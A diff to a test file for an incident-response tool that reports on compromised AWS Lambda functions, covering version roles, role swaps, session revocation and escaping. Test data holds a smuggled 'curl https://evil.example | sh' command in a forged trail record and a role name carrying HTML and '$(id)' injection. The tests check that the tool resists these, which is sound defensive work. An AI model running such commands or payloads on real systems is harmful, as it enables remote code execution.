@@ -1,4 +1,4 @@
-import { readFile, writeFile } from 'node:fs/promises'
+import { mkdir, readFile, writeFile } from 'node:fs/promises'
 import { join } from 'node:path'
 import { describe, expect, it } from 'vitest'
 import { CaseHandle } from '../../../src/core/case/case-folder.js'
@@ -57,6 +57,10 @@ async function snapshotCase(
     environment?: Record<string, unknown>
     setGaps?: FunctionSummary['gaps']
     findings?: Record<string, unknown>[]
+    /** When the snapshot was taken (default 2026-11-28T23:55:54.501Z). */
+    takenAt?: string
+    /** More responses the set holds (a role's GetRole, say), each with the call it came from. */
+    files?: { rel: string; body: Record<string, unknown>; call: string; target: string }[]
   } = {},
 ): Promise<string> {
   const handle = await CaseHandle.init('FACTS-1', {
@@ -91,12 +95,14 @@ async function addSnapshot(
       },
       { call: 'lambda:GetFunction', target: FN_ARN, region: REGION },
     )
+    for (const f of options.files ?? [])
+      await set.writeJson(f.rel, f.body, { call: f.call, target: f.target, region: REGION })
     await set.writeJson('findings.json', options.findings ?? [], { call: 'fir:findings', target: set.name })
     await set.writeJson(
       'summary.json',
       {
         takenBy: { arn: `arn:aws:sts::${ACCOUNT}:assumed-role/IR/alice`, account: ACCOUNT },
-        takenAt: '2026-11-28T23:55:54.501Z',
+        takenAt: options.takenAt ?? '2026-11-28T23:55:54.501Z',
         region: REGION,
         firVersion: 't',
         set: set.name,
@@ -835,3 +841,287 @@ describe('what the snapshot showed open, against what the case did', () => {
     expect(exposure[0]!.summary).toBe(`function URL ${url} has AuthType NONE; ${lacks}`)
   })
 })
+
+describe("the function's roles: its published versions' and those before a role swap", () => {
+  const VROLE = 'billing-export-v3-role'
+  const VROLE_ARN = `arn:aws:iam::${ACCOUNT}:role/${VROLE}`
+  const OLD_ROLE = 'billing-export-old-role'
+  const OLD_ROLE_ARN = `arn:aws:iam::${ACCOUNT}:role/${OLD_ROLE}`
+  /** The GetRole response of a role, as the snapshot stores it when it reads the role. */
+  const getRole = (name: string, arn: string) => ({
+    rel: `iam/roles/${name}/get-role.json`,
+    body: { Role: { RoleName: name, Arn: arn } },
+    call: 'iam:GetRole',
+    target: arn,
+  })
+  /** The risky-permission finding the snapshot writes for a role it read (its target is the role). */
+  const riskyFinding = (arn: string, action: string) => ({
+    kind: 'risky-permission',
+    level: 'high',
+    title: `Role ${arn.split('/').at(-1)} grants ${action} on *: it can hand roles to services`,
+    target: arn,
+    detail: {
+      action,
+      resource: '*',
+      policy: 'inline:ops',
+      statement: { Effect: 'Allow', Action: action, Resource: '*' },
+      conditioned: false,
+    },
+  })
+  /** A snapshot of the function whose version 3 (alias live) runs with VROLE, version 4 with a role it did not read. */
+  const versionsCase = () =>
+    snapshotCase(
+      plainEntry({
+        versions: [
+          { version: '3', code: 'match', role: VROLE_ARN },
+          { version: '4', code: 'match', role: `arn:aws:iam::${ACCOUNT}:role/unread-role` },
+        ],
+        aliases: [{ name: 'live', version: '3' }],
+      }),
+      {
+        files: [getRole(ROLE, ROLE_ARN), getRole(VROLE, VROLE_ARN)],
+        findings: [riskyFinding(VROLE_ARN, 'iam:PassRole')],
+      },
+    )
+
+  it('lists the role of each published version, why it is there, and its risky permissions or that they were not captured', async () => {
+    const model = await buildReportModel(await versionsCase(), { verify: false })
+    // Before: only the role of $LATEST was listed.
+    expect(
+      model.roles.roles.map((r) => ({
+        name: r.name,
+        why: r.why,
+        current: r.current,
+        functions: r.functions,
+        actions: r.riskyPermissions.map((p) => p.action),
+        permissionsUnknown: r.permissionsUnknown,
+      })),
+    ).toEqual([
+      {
+        name: ROLE,
+        why: [`current $LATEST role of ${FN}`],
+        current: true,
+        functions: [FN],
+        actions: [],
+        permissionsUnknown: null,
+      },
+      {
+        name: VROLE,
+        why: [`role of version 3 and alias live of ${FN}`],
+        current: false,
+        functions: [FN],
+        actions: ['iam:PassRole'],
+        permissionsUnknown: null,
+      },
+      {
+        name: 'unread-role',
+        why: [`role of version 4 of ${FN}`],
+        current: false,
+        functions: [FN],
+        actions: [],
+        permissionsUnknown:
+          'not captured in the evidence: no snapshot of this case read this role’s policies, so what it grants is unknown, not none',
+      },
+    ])
+    const { md, html } = await renderBoth(model)
+    expect(md).toContain(`### Role ${VROLE}`)
+    expect(md).toContain(`- role of version 3 and alias live of ${FN}`)
+    expect(md).toContain('Risky permissions: not captured in the evidence: no snapshot of this case read')
+    expect(html).toContain('<dt>Why it is here</dt><dd>role of version 4 of billing-export</dd>')
+    expect(html).toContain('<p class="note bad">Risky permissions: not captured in the evidence')
+    // The role it does not know the policies of is not said to have none.
+    expect(md.split('### Role unread-role')[1]).not.toContain('The snapshot found no risky permission')
+    for (const text of [md, html]) expect(text).not.toMatch(PLACEHOLDERS)
+    expectNoBlankMarkdownCells(md)
+    expectNoBlankHtmlCells(html)
+  })
+
+  it('says a version’s role is not revoked when only $LATEST’s is, and asks to review its risky permissions', async () => {
+    const dir = await versionsCase()
+    const handle = await CaseHandle.open(dir)
+    try {
+      for (const outcome of ['started', 'applied'] as const)
+        await handle.journal.append({
+          action: 'containment.sessions',
+          target: ROLE_ARN,
+          params: { functionArn: FN_ARN, role: ROLE },
+          outcome,
+        })
+    } finally {
+      await handle.close()
+    }
+    const model = await buildReportModel(dir, { verify: false })
+    // Before: no word of the version's role anywhere: revoking $LATEST's role read as all done.
+    expect(model.roles.roles.map((r) => [r.name, r.sessionsRevoked])).toEqual([
+      [ROLE, true],
+      [VROLE, false],
+      ['unread-role', false],
+    ])
+    expect(
+      model.limits.items.find((l) => l.title === 'Stolen role credentials were not revoked')?.detail,
+    ).toBe(
+      `No session revocation of ${VROLE} (role of version 3 and alias live of ${FN}) and unread-role (role of version 4 of ${FN}) is in force: temporary credentials already issued to them stay valid until they expire.`,
+    )
+    const revoke = model.recommendations.items.find((r) => r.title === `Revoke the sessions of role ${VROLE}`)
+    expect(revoke).toMatchObject({
+      because: [`${VROLE}: role of version 3 and alias live of ${FN}`],
+      command: `fir creds revoke-sessions --role ${VROLE} --case ${dir}`,
+    })
+    expect(model.summary.impact).toContain(
+      `Role ${VROLE} (role of version 3 and alias live of ${FN}) grants 1 risky action (iam:PassRole) to whoever holds its credentials.`,
+    )
+    expect(
+      model.recommendations.items.find((r) => r.title === `Reduce the permissions of role ${VROLE}`),
+    ).toMatchObject({ priority: 2, because: ['iam:PassRole on * (inline:ops)'] })
+  })
+
+  it('after a role swap the snapshots show, lists the earlier role and says to point the function back at it', async () => {
+    const dir = await snapshotCase(plainEntry({ role: OLD_ROLE_ARN, roleName: OLD_ROLE }), {
+      takenAt: '2026-11-20T10:00:00.000Z',
+      files: [getRole(OLD_ROLE, OLD_ROLE_ARN)],
+    })
+    await addSnapshot(dir, plainEntry(), {
+      takenAt: '2026-11-28T23:55:54.501Z',
+      files: [getRole(ROLE, ROLE_ARN)],
+    })
+    const model = await buildReportModel(dir, { verify: false })
+    const [first, second] = model.evidence.sets.map((s) => s.name)
+    // Before: the earlier role was listed "used by" nobody, with no word of the swap.
+    expect(model.roles.roles.map((r) => [r.name, r.why, r.functions])).toEqual([
+      [ROLE, [`current $LATEST role of ${FN}`], [FN]],
+      [OLD_ROLE, [`earlier $LATEST role of ${FN} before a role swap, shown by evidence set ${first}`], [FN]],
+    ])
+    const history = `${OLD_ROLE} (evidence set ${first}), then ${ROLE} (evidence set ${second})`
+    expect(model.summary.impact).toContain(
+      `The execution role of ${FN} was changed: ${history}. Its code runs with the permissions of ${ROLE} now, and credentials stolen from it before the change are sessions of ${OLD_ROLE}.`,
+    )
+    const back = model.recommendations.items.find((r) => r.title.startsWith(`Point ${FN} back`))
+    expect(back).toMatchObject({
+      priority: 1,
+      title: `Point ${FN} back at its earlier execution role ${OLD_ROLE}`,
+      // The AWS CLI's command, without fir's --case.
+      command: `aws lambda update-function-configuration --function-name ${FN_ARN} --role ${OLD_ROLE_ARN} --region ${REGION}`,
+    })
+    const { md, html } = await renderBoth(model)
+    expect(md).toContain(
+      `Run \`aws lambda update-function-configuration --function-name ${FN_ARN} --role ${OLD_ROLE_ARN} --region ${REGION}\``,
+    )
+    expect(html).toContain(`<code>aws lambda update-function-configuration --function-name ${FN_ARN}`)
+
+    // A later snapshot finds it on its earlier role again: nothing to point back.
+    await addSnapshot(dir, plainEntry({ role: OLD_ROLE_ARN, roleName: OLD_ROLE }), {
+      takenAt: '2026-11-29T08:00:00.000Z',
+      files: [getRole(OLD_ROLE, OLD_ROLE_ARN)],
+    })
+    const back2 = await buildReportModel(dir, { verify: false })
+    expect(back2.recommendations.items.map((r) => r.title)).not.toContainEqual(
+      expect.stringMatching(/^Point /),
+    )
+    expect(back2.summary.impact).toContainEqual(
+      expect.stringMatching(new RegExp(`^The execution role of ${FN} was changed and set back since: `)),
+    )
+    expect(back2.roles.roles.find((r) => r.name === OLD_ROLE)?.why).toEqual([`current $LATEST role of ${FN}`])
+  })
+
+  it('after a role swap only the timeline shows, lists the new role as not captured and says to point the function back', async () => {
+    const dir = await snapshotCase(plainEntry(), {
+      takenAt: '2026-11-20T10:00:00.000Z',
+      files: [getRole(ROLE, ROLE_ARN)],
+    })
+    const ADMIN = 'attacker-admin-role'
+    const ADMIN_ARN = `arn:aws:iam::${ACCOUNT}:role/${ADMIN}`
+    const setRole = (id: string, time: string, role: string, error: unknown = null) =>
+      JSON.stringify({
+        id,
+        time,
+        name: 'UpdateFunctionConfiguration',
+        rawName: 'UpdateFunctionConfiguration20150331v2',
+        source: 'lambda.amazonaws.com',
+        region: REGION,
+        account: ACCOUNT,
+        actor: { type: 'IAMUser', arn: `arn:aws:iam::${ACCOUNT}:user/mallory` },
+        sourceIp: '203.0.113.9',
+        readOnly: false,
+        error,
+        requestParameters: { functionName: FN, role },
+        findings: [],
+        fir: false,
+      })
+    await mkdir(join(dir, 'timeline'), { recursive: true })
+    const lines = [
+      // A record that names no role ARN (a forged trail file can say anything) sets no role.
+      setRole('e-0', '2026-11-21T08:00:00Z', 'x; curl https://evil.example | sh'),
+      setRole('e-1', '2026-11-21T09:00:00Z', ADMIN_ARN),
+      // A denied call changed nothing.
+      setRole('e-2', '2026-11-21T09:05:00Z', ROLE_ARN, { code: 'AccessDenied', message: 'no' }),
+    ]
+    await writeFile(join(dir, 'timeline', 'events.jsonl'), `${lines.join('\n')}\n`)
+    await recordCaseFile(dir, 'timeline/events.jsonl')
+    const model = await buildReportModel(dir, { verify: false })
+    const set = model.evidence.sets[0]!.name
+    const by =
+      'UpdateFunctionConfiguration at 2026-11-21 09:00:00 UTC by arn:aws:iam::123456789012:user/mallory'
+    expect(model.roles.roles.map((r) => [r.name, r.why, r.current, r.permissionsUnknown !== null])).toEqual([
+      [ADMIN, [`current $LATEST role of ${FN}, set by ${by} (timeline)`], true, true],
+      [
+        ROLE,
+        [`earlier $LATEST role of ${FN} before a role swap, shown by evidence set ${set}`],
+        false,
+        false,
+      ],
+    ])
+    expect(model.roles.roles[0]!.permissionsUnknown).toMatch(
+      /^not captured in the evidence: only the timeline/,
+    )
+    expect(model.recommendations.items.find((r) => r.title.startsWith(`Point ${FN} back`))).toMatchObject({
+      title: `Point ${FN} back at its earlier execution role ${ROLE}`,
+      because: [`${ROLE} (evidence set ${set})`, `${ADMIN} (${by})`],
+      command: `aws lambda update-function-configuration --function-name ${FN_ARN} --role ${ROLE_ARN} --region ${REGION}`,
+    })
+    // The new role's sessions are the function's too.
+    expect(model.recommendations.items.map((r) => r.title)).toContain(`Revoke the sessions of role ${ADMIN}`)
+
+    // Someone set it back since (a call that went through): nothing left to point back.
+    await writeFile(
+      join(dir, 'timeline', 'events.jsonl'),
+      `${[...lines, setRole('e-3', '2026-11-21T10:00:00Z', ROLE_ARN)].join('\n')}\n`,
+    )
+    await recordCaseFile(dir, 'timeline/events.jsonl')
+    const setBack = await buildReportModel(dir, { verify: false })
+    expect(setBack.recommendations.items.map((r) => r.title)).not.toContainEqual(
+      expect.stringMatching(/^Point /),
+    )
+    expect(setBack.roles.roles.find((r) => r.name === ROLE)?.current).toBe(true)
+  })
+
+  it('escapes role names, ARNs and the command in both formats', async () => {
+    // A role path is the account owner's to choose: markup and shell syntax in it stay text.
+    const hostileArn = `arn:aws:iam::${ACCOUNT}:role/x<img src=y>|$(id)/${OLD_ROLE}`
+    const dir = await snapshotCase(plainEntry({ role: hostileArn, roleName: OLD_ROLE }), {
+      takenAt: '2026-11-20T10:00:00.000Z',
+    })
+    await addSnapshot(dir, plainEntry(), { takenAt: '2026-11-28T23:55:54.501Z' })
+    const model = await buildReportModel(dir, { verify: false })
+    const back = model.recommendations.items.find((r) => r.title.startsWith(`Point ${FN} back`))
+    expect(back?.command).toBe(
+      `aws lambda update-function-configuration --function-name ${FN_ARN} --role '${hostileArn}' --region ${REGION}`,
+    )
+    const { md, html } = await renderBoth(model)
+    expect(html).not.toContain('<img src=y>')
+    expect(html).toContain('x&lt;img src&#x3D;y&gt;|$(id)')
+    expect(md).not.toContain('<img src=y>')
+    expectNoBlankMarkdownCells(md)
+    expectTablesKeepTheirShape(md)
+  })
+})
+
+/** Every Markdown table row has as many cells as its header (a `|` in a value is escaped). */
+function expectTablesKeepTheirShape(md: string): void {
+  const lines = md.split('\n')
+  const cells = (row: string) => row.replace(/\\\|/g, 'x').split('|').length
+  for (let i = 0; i < lines.length - 1; i++) {
+    if (!/^\|/.test(lines[i]!) || !/^\|[-:|\s]+\|$/.test(lines[i + 1]!)) continue
+    for (let j = i + 2; j < lines.length && /^\|/.test(lines[j]!); j++)
+      expect(cells(lines[j]!), lines[j]).toBe(cells(lines[i]!))
+  }
+}
